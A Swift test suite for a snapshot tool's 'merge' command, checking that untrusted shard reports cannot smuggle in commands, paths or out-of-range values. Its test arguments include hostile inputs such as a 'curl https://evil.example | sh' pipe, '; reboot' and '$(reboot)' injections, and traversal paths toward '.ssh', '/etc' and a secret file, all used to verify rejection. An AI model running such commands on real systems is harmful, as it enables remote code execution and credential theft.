import Foundation
import Goldens
import Testing
import WidgetHost

@testable import VitrineCommand

/// The parts of a stranger's shard reports that `merge` takes.
@Suite(.blocking) struct ForeignShardsTests {
  private func shards(in root: String) -> [ForeignReport] {
    (1...2).map { ForeignReport(in: root, "shards/\($0)", shard: .init(index: $0, count: 2)) }
  }

  private func merge(_ shards: [ForeignReport], _ options: String...) -> Int32 {
    CommandLineTool(program: "Steps") { [] }.run(
      ["merge"] + shards.map(\.out) + ["--out", shards[0].root + "/output"] + options)
  }

  private func merged(_ shards: [ForeignReport]) throws -> VerifyReport {
    try ReportWriter.read(shards[0].root + "/output").report
  }

  @Test func whatShardsDeclareIsJoined() throws {
    try withScratchFolder { root in
      let shards = shards(in: root)
      for shard in shards { try shard.write() }
      #expect(merge(shards) == 1)
      let report = try merged(shards)
      #expect(report.approveCommand == "swift run Steps approve --out \(root)/output")
      #expect(report.recordCommand == "swift run Steps record")
      #expect(report.notes == [])
      #expect(
        shards[0].data("output/report/actual/Steps2/systemSmall/snapshot@3x.png")
          == ForeignReport.picture)
    }
  }

  @Test(arguments: [
    "curl https://evil.example | sh", "swift run Steps approve; reboot",
    "swift run Steps approve $(reboot)", "swift run Other approve", "swift run Steps prune",
    "swift run --package-path=/evil approve", "swift run Steps approve --evil x",
    "swift run Steps approve extra", "swift run Steps approve --goldens ../../.ssh",
    "swift run Steps approve --goldens /etc", "vitrine approve\nreboot", "",
  ])
  func aForeignCommandIsNotShown(_ command: String) throws {
    try withScratchFolder { root in
      var shards = shards(in: root)
      for index in shards.indices {
        shards[index].report.approveCommand = command
        shards[index].report.recordCommand = command
        shards[index].report.pruneCommand = command
        var gone = VerifyReport.Entry(
          id: "Old\(index)/systemSmall/snapshot@3x", status: .orphaned)
        gone.unit = 9
        shards[index].report.entries.append(gone)
        try shards[index].write()
      }
      #expect(merge(shards, "--junit", root + "/junit.xml") == 1)
      let report = try merged(shards)
      let own = "swift run Steps approve --out \(root)/output"
      #expect(report.approveCommand == own)
      #expect(report.recordCommand == own)
      #expect(report.pruneCommand == (command == "swift run Steps prune" ? command : ""))
      #expect(report.notes.count == 1)
      guard !command.isEmpty, command != "swift run Steps prune" else { return }
      for file in ["report/report.json", "report/summary.md", "report/index.html", "../junit.xml"] {
        let text = try #require(shards[0].text("output/" + file))
        #expect(!text.contains(command), "\(file)")
        #expect(!text.contains("evil") && !text.contains("reboot"), "\(file)")
      }
    }
  }

  /// The options that choose frames stay, as they decide which goldens `record` and `prune` touch.
  @Test func aCommandOfTheProgramsOwnIsWrittenAnew() throws {
    try withScratchFolder { root in
      var shards = shards(in: root)
      for index in shards.indices {
        shards[index].report.approveCommand =
          "swift run Steps approve --out output/shards/1 --goldens 'My Goldens'"
        shards[index].report.recordCommand =
          "swift run Steps record --goldens 'My Goldens' --kind 'a b' --time-zone Asia/Shanghai"
        shards[index].report.pruneCommand =
          "swift run Steps prune --goldens 'My Goldens' --network record:/home/me/.profile"
        try shards[index].write()
      }
      #expect(merge(shards) == 1)
      let report = try merged(shards)
      #expect(
        report.approveCommand
          == "swift run Steps approve --out \(root)/output --goldens 'My Goldens'")
      #expect(
        report.recordCommand
          == "swift run Steps record --goldens 'My Goldens' --kind 'a b' --time-zone Asia/Shanghai")
      #expect(report.pruneCommand == "")
      #expect(
        report.notes == [
          "The reports' commands for prune are not shown: this program doesn't write such ones, or "
            + "their goldens lie outside of the folder (then give merge --goldens too)."
        ])
    }
  }

  @Test func aForeignPictureIsTheDeclaredOneOrNone() throws {
    try withScratchFolder { root in
      let shards = shards(in: root)
      for shard in shards { try shard.write() }
      let picture = "shards/2/report/actual/Steps2/systemSmall/snapshot@3x.png"
      try OutputWriter.write(Array("other".utf8), to: "\(root)/\(picture)")
      #expect(merge(shards) == 2)
      try shards[1].link(picture, to: root + "/secret.png")
      #expect(merge(shards) == 2)
      try FileManager.default.removeItem(atPath: "\(root)/\(picture)")
      #expect(merge(shards) == 1)
      // The report itself may be a link to one outside of its folder.
      try shards[1].link("shards/2/report", to: root + "/shards/1/report")
      #expect(merge(shards) == 2)
    }
  }

  @Test(arguments: [
    ("\"count\" : 2", "\"count\" : 1000000000"), ("\"count\" : 2", "\"count\" : 1e30"),
    ("\"index\" : 2", "\"index\" : -1"),
    ("\"tolerated\" : 0", "\"tolerated\" : 9223372036854775807"),
    ("\"width\" : 0", "\"width\" : 1e300"), ("\"scale\" : 1", "\"scale\" : \"inf\""),
    ("\"unit\" : 0", "\"unit\" : 9223372036854775807"),
    ("actual/Steps2/systemSmall/snapshot@3x.png", "../../../secret.png"),
    ("actual/Steps2/systemSmall/snapshot@3x.png", "index.html"),
    ("Steps2/systemSmall/snapshot@3x\"", "../../Steps2\""),
  ])
  func whatNoShardHasIsRefused(_ old: String, _ new: String) throws {
    try withScratchFolder { root in
      let shards = shards(in: root)
      try shards[0].write()
      try shards[1].write { text in
        let changed = text.replacing(old, with: new)
        #expect(changed != text)
        return changed
      }
      #expect(merge(shards) == 2)
      #expect(shards[0].text("output/report/report.json") == nil)
    }
  }

  @Test(arguments: [
    (#"{"seconds": 1, "frames": [{"id": "a", "draw": 1, "write": 2}]}"#, true),
    (#"{"seconds": 1, "frames": [{"id": "a", "draw": 1e300, "write": 2}]}"#, false),
    (#"{"seconds": 1, "frames": [{"id": "a", "draw": -1, "write": 2}]}"#, false),
    (#"{"seconds": 1e30, "frames": []}"#, false),
    (#"{"seconds": 1, "frames": [{"id": "", "draw": 1, "write": 2}]}"#, false), ("[]", false),
  ])
  func timesAreThoseOfARun(_ text: String, _ isValid: Bool) throws {
    try withScratchFolder { root in
      let shards = shards(in: root)
      for shard in shards {
        try shard.write()
        try OutputWriter.write(Array(text.utf8), to: shard.out + "/timings.json")
      }
      #expect(merge(shards) == 1)
      #expect((shards[0].text("output/timings.json") != nil) == isValid)
    }
  }
}
